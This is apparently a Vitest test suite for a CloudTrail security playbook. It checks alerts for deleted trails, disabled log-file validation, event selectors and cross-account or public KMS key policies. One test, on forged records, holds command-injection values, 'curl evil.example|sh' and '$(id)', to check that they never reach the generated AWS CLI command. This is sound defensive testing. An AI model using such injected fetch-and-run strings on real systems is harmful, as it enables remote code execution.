import { describe, expect, it } from 'vitest';
import type { CloudTrailEvent } from '../../../src/events';
import { planCloudTrail } from '../../../src/playbooks/cloudtrail';
import { keyPolicyChange, lookupEventsCommand, selectorSummary } from '../../../src/playbooks/cloudtrail-changes';
import { loadSample, planSample, settingsWith } from '../../fixtures';

const sample = (name: string) => loadSample('cloudtrail', name) as unknown as CloudTrailEvent;
const withRequest = (name: string, eventName: string, requestParameters: Record<string, unknown>): CloudTrailEvent => {
  const event = structuredClone(sample(name));
  event.detail.eventName = eventName;
  event.detail.requestParameters = requestParameters;
  event.detail.responseElements = null;
  return event;
};
const plan = (event: CloudTrailEvent) => planCloudTrail(event, settingsWith());
const facts = (event: CloudTrailEvent) => Object.fromEntries(plan(event).alert?.facts ?? []);

describe('Playbook: cloudtrail, who deleted it', () => {
  it.each(['cloudtrail-delete-trail', 'guardduty-delete-detector', 'config-delete-delivery-channel', 'events-delete-rule'])(
    '%s: the alert prints the lookup-events command that lists every such call and its caller',
    (name) => {
      // Act
      const event = sample(name);
      const steps = planSample('cloudtrail', name).alert?.nextSteps ?? [];
      // Assess
      expect(steps.at(-1)).toContain(
        `aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=${event.detail.eventName} --region us-east-1`,
      );
    },
  );

  it('prints no lookup command for calls that delete nothing', () => {
    expect((planSample('cloudtrail', 'cloudtrail-stop-logging').alert?.nextSteps ?? []).join('\n')).not.toContain('lookup-events');
  });

  it('never puts shell syntax from a forged record into the command', () => {
    // Prepare
    const event = structuredClone(sample('cloudtrail-delete-trail'));
    event.detail.eventName = 'DeleteTrail;curl evil.example|sh';
    event.detail.awsRegion = 'us-east-1 $(id)';
    // Act
    const command = lookupEventsCommand(event.detail);
    // Assess
    expect(command).toBe(
      'aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=<EventName> --region <region> --max-results 50',
    );
  });
});

describe('Playbook: cloudtrail, log file integrity validation', () => {
  it('alerts when UpdateTrail turns validation off, with the commands that restore and check it', () => {
    const shown = facts(sample('cloudtrail-log-validation-off'));
    expect(shown['Log file validation']).toBe('turned off');
    expect(shown.Restore).toContain(
      'aws cloudtrail update-trail --name arn:aws:cloudtrail:us-east-1:111122223333:trail/management-events --enable-log-file-validation',
    );
    expect(shown.Restore).toContain('aws cloudtrail validate-logs --trail-arn');
  });

  it('alerts when CreateTrail leaves validation at the API default (off)', () => {
    const created = plan(withRequest('cloudtrail-log-validation-off', 'CreateTrail', { name: 'audit', s3BucketName: 'acme-logs' }));
    expect(created.alert?.title).toBe('CloudTrail log file integrity validation is off');
    expect(Object.fromEntries(created.alert?.facts ?? [])['Log file validation']).toBe('not enabled at creation (the API default)');
  });

  it('ignores a trail created with validation on, and reports other trail updates as reconfiguration', () => {
    const validated = withRequest('cloudtrail-log-validation-off', 'CreateTrail', {
      name: 'audit',
      s3BucketName: 'acme-logs',
      enableLogFileValidation: true,
    });
    expect(plan(validated).decision).toBe('ignore');
    const moved = plan(withRequest('cloudtrail-log-validation-off', 'UpdateTrail', { name: 'audit', s3BucketName: 'elsewhere' }));
    expect(moved.alert?.title).toBe('A CloudTrail trail was reconfigured');
  });

  it('reports a denied attempt to turn validation off as an attempt', () => {
    const event = structuredClone(sample('cloudtrail-log-validation-off'));
    event.detail.errorCode = 'AccessDenied';
    event.detail.errorMessage = 'User is not authorized to perform: cloudtrail:UpdateTrail';
    expect(plan(event).alert).toMatchObject({
      severity: 'medium',
      title: 'Denied attempt to turn off CloudTrail log file integrity validation',
    });
  });
});

describe('Playbook: cloudtrail, event selectors and S3 data events', () => {
  it('says a read-only selector drops writes and that no data events are recorded', () => {
    expect(Object.fromEntries(selectorSummary(sample('cloudtrail-put-event-selectors').detail))).toEqual({
      'Management events': 'ReadOnly: write calls are NOT recorded',
      'Data events': 'none: S3 object-level calls (GetObject, PutObject, DeleteObject) are not recorded',
    });
  });

  it('names the data events basic and advanced selectors record', () => {
    const basic = withRequest('cloudtrail-put-event-selectors', 'PutEventSelectors', {
      trailName: 'audit',
      eventSelectors: [
        {
          readWriteType: 'All',
          includeManagementEvents: true,
          dataResources: [{ type: 'AWS::S3::Object', values: ['arn:aws:s3:::acme-data/'] }],
        },
      ],
    });
    expect(Object.fromEntries(selectorSummary(basic.detail))).toEqual({
      'Management events': 'All',
      'Data events': 'AWS::S3::Object arn:aws:s3:::acme-data/',
    });
    const advanced = withRequest('cloudtrail-put-event-selectors', 'PutEventSelectors', {
      trailName: 'audit',
      advancedEventSelectors: [
        {
          name: 'S3 objects',
          fieldSelectors: [
            { field: 'eventCategory', equals: ['Data'] },
            { field: 'resources.type', equals: ['AWS::S3::Object'] },
          ],
        },
      ],
    });
    expect(Object.fromEntries(selectorSummary(advanced.detail))).toEqual({
      'Management events': 'none',
      'Data events': 'AWS::S3::Object (S3 objects)',
    });
  });
});

describe('Playbook: cloudtrail, records holding any JSON', () => {
  it('reads selectors and policies with nulls, holes and wrong types without throwing', () => {
    const selectors = withRequest('cloudtrail-put-event-selectors', 'PutEventSelectors', {
      // biome-ignore lint/suspicious/noSparseArray: CloudTrail's requestParameters can hold any JSON, as the property tests generate
      eventSelectors: [, null, 7, { dataResources: [null, { type: 'AWS::S3::Object', values: 'not a list' }] }],
      advancedEventSelectors: [null, { fieldSelectors: [null, { field: 'eventCategory', equals: 'Data' }] }],
    });
    expect(() => plan(selectors)).not.toThrow();
    const policies = ['null', '7', '{"Statement":[null,7,{"Effect":"Allow","Principal":{"AWS":[null,"444455556666"]}}]}'];
    for (const policy of policies)
      expect(() => plan(withRequest('kms-put-key-policy', 'PutKeyPolicy', { keyId: 'k', policy })), policy).not.toThrow();
    expect(
      keyPolicyChange(withRequest('kms-put-key-policy', 'PutKeyPolicy', { keyId: 'k', policy: policies[2] }).detail).otherAccounts,
    ).toEqual(['444455556666 (no action named)']);
  });
});

describe('Playbook: cloudtrail, KMS key policies', () => {
  it('names the other account a new key policy lets use the key, and the actions', () => {
    const shown = facts(sample('kms-put-key-policy-cross-account'));
    expect(shown['Other accounts allowed']).toBe(
      '444455556666 (kms:Encrypt, kms:Decrypt, kms:ReEncrypt*, kms:GenerateDataKey*, kms:DescribeKey, kms:CreateGrant, kms:ListGrants, kms:RevokeGrant)',
    );
    expect(shown['Open to any principal (*)']).toBe('no');
    expect(shown['Previous policy']).toContain('AttributeKey=ResourceName,AttributeValue=arn:aws:kms:us-east-1:111122223333:key/');
  });

  it('keeps a policy of the key’s own account a plain replacement', () => {
    expect(planSample('cloudtrail', 'kms-put-key-policy').alert?.title).toBe('A KMS key policy was replaced');
    expect(facts(sample('kms-put-key-policy'))['Other accounts allowed']).toBe('none');
  });

  it('alerts critical on a policy open to any principal without a condition, not on one narrowed by a condition', () => {
    const open = (condition?: Record<string, unknown>) =>
      withRequest('kms-put-key-policy', 'PutKeyPolicy', {
        keyId: 'arn:aws:kms:us-east-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab',
        policy: JSON.stringify({
          Statement: { Effect: 'Allow', Principal: { AWS: '*' }, Action: 'kms:Decrypt', Resource: '*', Condition: condition },
        }),
      });
    expect(plan(open()).alert).toMatchObject({ severity: 'critical', title: 'A KMS key policy now lets any principal use the key' });
    const narrowed = plan(open({ StringEquals: { 'kms:CallerAccount': '111122223333' } }));
    expect(narrowed.alert?.title).toBe('A KMS key policy was replaced');
    expect(Object.fromEntries(narrowed.alert?.facts ?? [])['Open to any principal (*)']).toBe('only under a condition');
  });

  it('says so when the recorded policy is not JSON', () => {
    const event = withRequest('kms-put-key-policy', 'PutKeyPolicy', { keyId: 'k', policy: '{not json' });
    expect(keyPolicyChange(event.detail).unreadable).toBe(true);
    expect(facts(event)['New policy']).toBe('not readable as JSON (the request holds it as text)');
  });
});
